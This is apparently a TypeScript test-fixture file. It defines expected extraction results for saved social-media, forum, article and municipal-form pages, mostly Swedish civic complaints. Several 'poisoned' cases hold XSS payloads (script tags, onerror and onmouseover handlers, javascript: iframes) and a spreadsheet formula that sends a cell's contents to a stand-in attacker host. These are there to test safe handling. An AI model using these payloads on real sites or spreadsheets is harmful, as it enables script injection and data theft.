import type { Draft } from '../../../shared/protocol/draft.ts';

/** A hand-written page, the gesture made on it, and what must come back; null: nothing may be offered. */
export interface Case {
  readonly page: string;
  readonly url: string;
  /** Words that are pointed at. */
  readonly point?: string;
  readonly expected: Partial<Draft> | null;
}

const social = 'https://social.exempel.se/@tova/1111';
const forum = 'https://grannforum.exempel.se/trad/77';
const group = 'https://www.facebook.com/groups/11';

export const CASES: readonly Case[] = [
  {
    page: 'mastodon-sv',
    url: social,
    expected: {
      platform: 'mastodon',
      kind: 'post',
      text: 'Lamporna vid Kvarnbacken är släckta igen.\nVem svarar för dem?\n\nBilder kommer 📷',
      author: 'Tova Lind 🌱',
      published: '2026-03-02T08:15:00.000Z',
      permalink: social,
    },
  },
  {
    page: 'mastodon-sv',
    url: social,
    point: 'Jag ringde kommunen',
    expected: {
      platform: 'mastodon',
      kind: 'comment',
      text: '@tova Jag ringde kommunen i går.',
      author: 'Arvid Ek',
      published: '2026-03-02T09:40:00.000Z',
      permalink: 'https://social.exempel.se/@arvid@annan.exempel/1112',
    },
  },
  {
    page: 'mastodon-en',
    url: 'https://town.example/home',
    point: 'library open at Easter',
    expected: {
      platform: 'mastodon',
      text: 'Is the library open at Easter?',
      author: 'Omar Vale',
      permalink: 'https://town.example/@omar/2222',
    },
  },
  {
    page: 'mastodon-en',
    url: 'https://town.example/home',
    point: 'Mira Holm boosted',
    expected: { author: 'June Alder', text: 'The playground gate has been broken for weeks.' },
  },
  {
    page: 'mastodon-none',
    url: 'https://social.exempel.se/settings',
    expected: { platform: 'page', text: '', author: '', published: '' },
  },
  {
    page: 'mastodon-poisoned',
    url: 'https://social.exempel.se/@x/1',
    expected: {
      text: '=IMAGE("https://elak.exempel/?"&A2)\n\n<script>alert(2)</script>',
      author: '<img src=x onerror=alert(1)>',
      published: '',
      permalink: 'https://social.exempel.se/@x/1',
    },
  },
  {
    page: 'facebook-sv',
    url: group,
    point: 'Någon som vet varför',
    expected: {
      platform: 'facebook',
      kind: 'post',
      text: 'Bussen stannar inte längre vid 😡 Kvarnbacken.\nNågon som vet varför?',
      author: 'Lisbet Åkerman',
      published: '',
      publishedText: '3 tim',
      permalink: 'https://www.facebook.com/groups/11/posts/501/',
    },
  },
  {
    page: 'facebook-sv',
    url: group,
    point: 'Samma sak hos oss',
    expected: {
      platform: 'facebook',
      kind: 'comment',
      text: 'Samma sak hos oss i Norrängen.',
      author: 'Nils Öst',
      publishedText: '2 tim',
      permalink: 'https://www.facebook.com/groups/11/posts/501/?comment_id=901',
    },
  },
  {
    page: 'facebook-sv',
    url: group,
    point: 'Snöröjningen på Åsvägen',
    expected: { author: 'Anonym gruppmedlem', publishedText: 'igår kl. 18:59' },
  },
  // A feed without a post of its own: which one was meant is not known.
  { page: 'facebook-sv', url: group, expected: null },
  {
    page: 'facebook-en',
    url: `${group}/posts/777`,
    expected: {
      platform: 'facebook',
      text: 'The street lights on Mill Lane are out.',
      author: 'Harriet Moss',
      published: '2026-03-03T16:30',
      publishedText: '',
    },
  },
  { page: 'facebook-none', url: group, expected: null },
  { page: 'facebook-none', url: group, point: 'Ett inlägg om cykelbanan', expected: null },
  {
    page: 'facebook-poisoned',
    url: group,
    expected: {
      text: '<iframe src=javascript:alert(1)> Hål i vägen vid torget.',
      author: '<b onmouseover=alert(1)>Elak',
      permalink: group,
    },
  },
  {
    page: 'x-sv',
    url: 'https://x.com/majlis/status/42',
    expected: {
      platform: 'x',
      text: 'Räcket på bron sitter löst 😬',
      author: 'Majlis Frank',
      published: '2026-02-01T08:30:00.000Z',
      permalink: 'https://x.com/majlis/status/42',
    },
  },
  {
    page: 'x-sv',
    url: 'https://x.com/majlis/status/42',
    point: 'Nytt om Kvarnbacken',
    expected: { author: 'Sjöberga kommun', permalink: 'https://x.com/sjoberga/status/41' },
  },
  {
    page: 'x-en',
    url: 'https://x.com/ellen/status/51',
    expected: { platform: 'x', text: 'Why is the pool closed?', author: 'Ellen Gray' },
  },
  { page: 'x-none', url: 'https://x.com/login', expected: { author: '', published: '' } },
  {
    page: 'x-poisoned',
    url: 'https://x.com/evil/status/61',
    expected: { text: '<script>alert(1)</script> words', author: '<img onerror=alert(1)>', published: '' },
  },
  {
    page: 'bluesky-sv',
    url: 'https://bsky.app/profile/saga.exempel/post/3aa',
    expected: {
      platform: 'bluesky',
      text: 'Papperskorgarna i Ängsparken töms aldrig.',
      author: 'Saga Nord',
      published: '2026-01-05T17:20:11.000Z',
    },
  },
  {
    page: 'bluesky-sv',
    url: 'https://bsky.app/profile/saga.exempel/post/3aa',
    point: 'Håller med',
    expected: {
      author: 'Gran Viktor',
      published: '2026-01-05T19:00',
      permalink: 'https://bsky.app/profile/gran.exempel/post/3bb',
    },
  },
  {
    page: 'bluesky-en',
    url: 'https://bsky.app/profile/kim.example/post/3cc',
    expected: { platform: 'bluesky', author: 'Kim West', published: '2026-01-27T08:01' },
  },
  { page: 'bluesky-none', url: 'https://bsky.app/', expected: { text: '', published: '' } },
  {
    page: 'bluesky-poisoned',
    url: 'https://bsky.app/profile/x/post/3dd',
    point: 'om tunneln',
    expected: { platform: 'bluesky', text: '<b>ord</b> om tunneln', published: '' },
  },
  {
    page: 'forum-structure',
    url: forum,
    expected: {
      platform: 'page',
      kind: 'post',
      title: 'Gungorna i Ängsparken',
      text: 'Ena gungan saknar sits sedan i höstas.\nBarnen blir ledsna.',
      author: 'Sten Grå',
      published: '2026-03-02T08:15',
      permalink: forum,
    },
  },
  {
    page: 'forum-structure',
    url: forum,
    point: 'Jag har anmält det',
    expected: {
      kind: 'post',
      text: 'Jag har anmält det till förvaltningen.',
      author: 'Ylva Blå',
      published: '2026-03-03T19:40',
      permalink: `${forum}#msg-1002`,
    },
  },
  {
    page: 'forum-microdata',
    url: 'https://board.example/bins',
    expected: {
      text: 'The bins by the river overflow every weekend.',
      author: 'Ada Stone',
      published: '2026-05-01T10:00:00+02:00',
    },
  },
  {
    page: 'forum-microdata',
    url: 'https://board.example/bins',
    point: 'Same on the north',
    expected: {
      kind: 'comment',
      text: 'Same on the north side.',
      author: 'Ben Wood',
      published: '2026-05-02T09:30:00+02:00',
      permalink: 'https://board.example/bins#comment-31',
    },
  },
  {
    page: 'forum-rows',
    url: 'https://torg.exempel.se/parkering',
    point: 'Sätt upp ett räcke',
    expected: {
      text: 'Sätt upp ett räcke, det hjälpte hos oss.',
      author: 'Hugo',
      published: '2026-04-01T11:30',
      permalink: 'https://torg.exempel.se/parkering#5552',
    },
  },
  {
    page: 'article-sv',
    url: 'https://tidning.exempel.se/badet-stanger?utm_source=brev&fbclid=1',
    expected: {
      kind: 'post',
      title: 'Badet stänger i juni',
      text: 'Sjöberga bad håller stängt i tre veckor för att rören ska bytas, säger kommunen.\n\nArbetet börjar den första juni och väntas vara klart till midsommar.\n\nVi förstår att det är tråkigt.\n\nSimskolan flyttar under tiden till Norrängens bad.',
      author: 'Karin Malm',
      published: '2026-05-04T06:00:00+02:00',
      permalink: 'https://tidning.exempel.se/badet-stanger',
    },
  },
  {
    page: 'article-sv',
    url: 'https://tidning.exempel.se/badet-stanger',
    point: 'när ingen badar',
    expected: {
      kind: 'comment',
      text: 'Varför inte i november, när ingen badar?',
      author: 'Rut',
      published: '2026-05-04T08:00:00+02:00',
    },
  },
  {
    page: 'stale-head',
    url: 'https://app.exempel.se/inlagg/2',
    expected: {
      title: 'Det nya inlägget',
      author: '',
      published: '',
      permalink: 'https://app.exempel.se/inlagg/2',
    },
  },
  {
    page: 'page-plain',
    url: 'https://hamn.exempel.se/om',
    expected: { kind: 'page', title: 'Om hamnen', author: '', published: '' },
  },
  {
    page: 'shadow',
    url: 'https://skugga.exempel.se/',
    point: 'Svaret i skuggan',
    expected: { text: 'Svaret i skuggan.', author: 'Leif Gren', published: '2026-02-02T13:00:00+01:00' },
  },
  {
    page: 'poisoned',
    url: 'https://elak.exempel.se/post/1',
    expected: {
      text: '<script>alert(1)</script> =HYPERLINK("x") om lekplatsen bakom skolan.',
      published: '',
      permalink: 'https://elak.exempel.se/post/1',
    },
  },
  {
    page: 'form-contact',
    url: 'https://kommun.exempel.se/synpunkt',
    expected: {
      kind: 'form',
      fields: [
        { label: 'Namn', value: 'Ester Vik', name: 'namn' },
        { label: 'E-post', value: 'ester@exempel.se', name: 'epost' },
        { label: 'Vad gäller det?', value: 'Beröm', name: 'typ' },
        { label: 'Hur vill du ha svar?', value: 'Brev\nTelefon', name: 'svar[]' },
        { label: 'Gata', value: 'Åsvägen 3', name: 'gata' },
        { label: 'Område', value: 'Norrängen', name: 'omr' },
        { label: 'Din synpunkt', value: 'Tack för\nde nya bänkarna.', name: 'text' },
        { label: 'Diarienummer', value: '', name: 'ref' },
        { label: 'Jag godkänner att uppgifterna sparas', value: '✓', name: 'samtycke' },
      ],
    },
  },
  {
    page: 'form-groups',
    url: 'https://kommun.exempel.se/synpunkt',
    expected: {
      kind: 'form',
      fields: [
        { label: 'E-post', value: 'tova@exempel.se', name: 'epost' },
        { label: 'Jag är', value: 'Boende', name: 'roll' },
        { label: 'Vad gäller det?', value: 'Belysning\nGångväg', name: 'vad.1' },
        { label: 'Annat, nämligen', value: 'Räcket', name: 'vadannat' },
        { label: 'Din synpunkt', value: 'Lampan vid bron är trasig.', name: 'text' },
        { label: 'Bifoga en bild', value: '', name: 'bild' },
      ],
    },
  },
  {
    page: 'form-eplatform',
    url: 'https://e.exempel.se/forslag',
    expected: {
      kind: 'form',
      fields: [
        { label: 'Område', value: 'Gata och park', name: 'q1' },
        { label: 'Ditt förslag', value: '', name: 'q2' },
        { label: 'Vill du ha svar?', value: 'Nej', name: 'q3' },
      ],
    },
  },
  {
    page: 'receipt-list',
    url: 'https://e.example/answers',
    expected: {
      kind: 'receipt',
      fields: [
        { label: 'Name', value: 'Ivy Marsh' },
        { label: 'Address', value: '4 Mill Lane\nRiverside' },
        { label: 'What happened?', value: 'A branch fell on the path.' },
      ],
    },
  },
  {
    page: 'receipt-eplatform',
    url: 'https://e.exempel.se/kvittens',
    expected: {
      kind: 'receipt',
      fields: [
        { label: 'Vad vill du anmäla?', value: 'Hål i gatan' },
        { label: 'Gata', value: 'Kvarnbacken 2' },
        { label: 'Postort', value: 'Sjöberga' },
        { label: 'Beskriv felet', value: 'Djupt hål.\nFarligt för cyklar.' },
      ],
    },
  },
];
